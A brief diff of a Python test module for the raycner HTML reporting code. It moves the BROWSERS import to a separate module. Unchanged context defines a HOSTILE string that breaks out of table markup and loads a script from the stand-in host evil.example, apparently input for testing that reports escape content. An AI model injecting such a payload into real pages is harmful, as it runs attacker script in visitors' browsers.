@@ -16,6 +16,7 @@ from hypothesis import strategies as st
 from seqeval.metrics import classification_report
 from seqeval.scheme import IOB2
 
+from browsers import BROWSERS
 from fixtures_tiny import spoken
 from raycner import __version__
 from raycner.analysis.formatting import DASH
@@ -37,7 +38,7 @@ from raycner.reporting.html.page import html
 from raycner.storage.run_names import find_step
 from raycner.storage.store import ObjectStore
 from raycner.training.plan import NUMERICS
-from test_page import BROWSERS, PROBE, read
+from test_page import PROBE, read
 
 HOSTILE = '</td></table><script src="http://evil.example/x.js">alert(1)</script>&amp;'
 
